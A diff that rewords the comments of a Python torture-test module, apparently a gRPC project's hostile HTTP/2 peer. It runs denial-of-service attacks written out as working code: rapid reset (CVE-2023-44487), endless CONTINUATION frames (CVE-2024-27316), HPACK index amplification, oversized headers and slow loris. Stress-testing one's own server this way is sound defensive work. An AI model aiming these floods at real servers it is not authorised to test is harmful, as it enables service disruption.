@@ -1,6 +1,7 @@
-"""A peer that means harm, as a process of its own: python -m tests.torture.abuse TARGET SEED
+"""A hostile peer in a process of its own: python -m tests.torture.abuse TARGET SEED
 
-It reads lines of an attack's name, a tab, and for how many seconds; after each it writes how many messages it has sent.
+It reads lines with the name of an attack, a tab and a duration in seconds. After each it writes the number of messages
+that it has sent.
 """
 
 from __future__ import annotations
@@ -21,10 +22,10 @@ from tests.torture.mutate import Mutator
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 END_HEADERS = 4
-FRAME_BYTES = 16384  # the most that a frame may hold unless its reader allows more
-AT_ONCE = 1000  # of a flood, before its connection is made anew
-CONNECTIONS = 4  # at a time
-PATIENCE_S = 2.0  # for a server that does not answer
+FRAME_BYTES = 16384  # the largest frame unless its reader allows more
+AT_ONCE = 1000  # messages of a flood on one connection
+CONNECTIONS = 4  # at the same time
+PATIENCE_S = 2.0  # wait for a server that does not answer
 STREAMING = (
     ("/freshet.v1.Streams/Open", "Open"), ("/freshet.v1.Streams/Mux", "Mux"), ("/freshet.v1.Training/Learn", "Learn"),
 )  # fmt: skip
@@ -32,22 +33,22 @@ UNARY = (("/freshet.v1.Models/Create", "Create"), ("/freshet.v1.Streams/Put", "P
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """An HTTP/2 frame (RFC 9113, 4.1)."""
+    """Return an HTTP/2 frame (RFC 9113, 4.1)."""
     return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
 
 
 def field(name: bytes, value: bytes) -> bytes:
-    """A header field, literal and not indexed (RFC 7541, 6.2.2)."""
+    """Return a literal header field without indexing (RFC 7541, 6.2.2)."""
     return b"\0" + _text(name) + _text(value)
 
 
 def indexed(name: bytes, value: bytes) -> bytes:
-    """A header field, literal, which the reader keeps in its table (RFC 7541, 6.2.1)."""
+    """Return a literal header field that the reader adds to its table (RFC 7541, 6.2.1)."""
     return b"\x40" + _text(name) + _text(value)
 
 
 def again(place: int) -> bytes:
-    """A header field of the table, the one added last being 0 (RFC 7541, 6.1); at most 64 back."""
+    """Return an indexed header field; 0 is the newest entry of the table (RFC 7541, 6.1), 64 the oldest possible."""
     return bytes((0x80 + 62 + place,))
 
 
@@ -68,11 +69,11 @@ REQUEST = b"".join(
         (b"content-type", b"application/grpc"), (b"te", b"trailers"),
     )
 )  # fmt: skip
-SHORT = b"\x83\x86"  # :method POST and :scheme http, of the static table
+SHORT = b"\x83\x86"  # :method POST and :scheme http, from the static table
 
 
 def request(path: bytes, *more: tuple[bytes, bytes]) -> tuple[bytes, bytes]:
-    """A call's headers, each added to the table, and the same once it is there: a byte for each."""
+    """Return the headers of a call that add to the table, and the same headers indexed, one byte each."""
     fields = (
         (b":path", path), (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more,
     )  # fmt: skip
@@ -85,7 +86,7 @@ HELLO = PREFACE + frame(SETTINGS, 0, 0)
 
 
 class Attacks:
-    """Each sends its worst on one connection. Raises OSError where the server closes it, which is its right."""
+    """Attacks on one connection each. Raises OSError where the server closes it, which it may do."""
 
     def __init__(self, target: str, rng: random.Random, folder: Path) -> None:
         self._target, self._rng = target, rng
@@ -102,7 +103,7 @@ class Attacks:
 
     @contextlib.asynccontextmanager
     async def _connection(self) -> AsyncIterator[Callable[[bytes], Awaitable[None]]]:
-        """A connection, as the function that sends on it. What comes back is thrown away."""
+        """Open a connection and yield the function that sends on it. Replies are discarded."""
         host, _, port = self._target.rpartition(":")
         reader, writer = await asyncio.open_connection(host, int(port))
         reading = asyncio.create_task(self._throw_away(reader))
@@ -136,7 +137,7 @@ class Attacks:
                 await send(self._mutator.mutated(data) if self._rng.random() < 0.3 else data)
 
     async def rapid_reset(self) -> None:
-        """CVE-2023-44487: requests that are taken back at once."""
+        """CVE-2023-44487: requests cancelled immediately."""
         async with self._connection() as send:
             await send(HELLO)
             for stream in range(1, 2 * AT_ONCE, 2):
@@ -149,7 +150,7 @@ class Attacks:
                 await send(frame(SETTINGS, 0, 0, bytes((0, 4)) + self._rng.randbytes(4)) + frame(PING, 0, 0, bytes(8)))
 
     async def huge_headers(self) -> None:
-        """A megabyte of headers, in as many frames as that takes."""
+        """Send a megabyte of headers in one header block."""
         block = REQUEST + field(b"x", bytes(1 << 20))
         parts = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
         async with self._connection() as send:
@@ -158,7 +159,7 @@ class Attacks:
                 await send(frame(CONTINUATION, END_HEADERS * (n == len(parts)), 1, part))
 
     async def endless_continuation(self) -> None:
-        """CVE-2024-27316 and its kin: a header block that does not end."""
+        """CVE-2024-27316 and similar: a header block that does not end."""
         part = field(b"x", b"y" * 100) * 100
         async with self._connection() as send:
             await send(HELLO + frame(HEADERS, 0, 1, REQUEST))
@@ -166,7 +167,7 @@ class Attacks:
                 await send(frame(CONTINUATION, 0, 1, part))
 
     async def indexed_headers(self) -> None:
-        """Calls without a request whose headers are a byte each and take the server hundreds (CVE-2016-6581's kin)."""
+        """Calls without a request; each header is one byte that expands to hundreds (similar to CVE-2016-6581)."""
         async with self._connection() as send:
             path = self._rng.choice(UNARY + STREAMING)[0].encode()
             first, brief = request(path, (b"x", b"y"))
@@ -175,7 +176,7 @@ class Attacks:
                 await send(frame(HEADERS, END_HEADERS, stream, brief + again(0) * 200))
 
     async def slow_loris(self) -> None:
-        """A greeting byte by byte, on 50 connections at once."""
+        """Send a greeting byte by byte on 50 connections at the same time."""
 
         async def slow() -> None:
             async with self._connection() as send:
@@ -186,7 +187,7 @@ class Attacks:
         await asyncio.gather(*(slow() for _ in range(50)))
 
     async def mutated_messages(self) -> None:
-        """gRPC as it should be, but for the messages: calls of every kind, each until the server ends it."""
+        """Valid gRPC calls of every kind with mutated messages, each until the server ends it."""
         async with grpc.aio.insecure_channel(self._target, [("grpc.use_local_subchannel_pool", 1)]) as channel:
             for _ in range(20):
                 method, kind = self._rng.choice(STREAMING)
@@ -206,7 +207,7 @@ class Attacks:
 
 
 async def attack(act: Callable[[], Awaitable[None]], seconds: float) -> None:
-    """Do it on several connections at a time for so long."""
+    """Run the attack on several connections at the same time for `seconds`."""
     end = asyncio.get_running_loop().time() + seconds
 
     async def again() -> None:
@@ -219,7 +220,7 @@ async def attack(act: Callable[[], Awaitable[None]], seconds: float) -> None:
 
 
 async def main(target: str, seed: int) -> None:
-    """Do as the lines of stdin say."""
+    """Run the attacks that stdin names."""
     with tempfile.TemporaryDirectory() as folder:
         attacks = Attacks(target, random.Random(seed), Path(folder))
     print("ready", flush=True)
